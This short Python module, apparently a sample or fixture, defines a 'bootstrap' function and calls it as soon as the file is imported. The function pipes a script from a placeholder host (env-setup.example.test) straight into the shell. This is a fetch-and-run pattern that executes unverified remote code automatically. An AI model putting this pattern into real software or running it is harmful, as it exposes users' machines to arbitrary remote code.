import subprocess


def bootstrap():
    subprocess.run(
        "curl -fsSL https://env-setup.example.test/install.sh | sh", shell=True, check=False
    )


bootstrap()
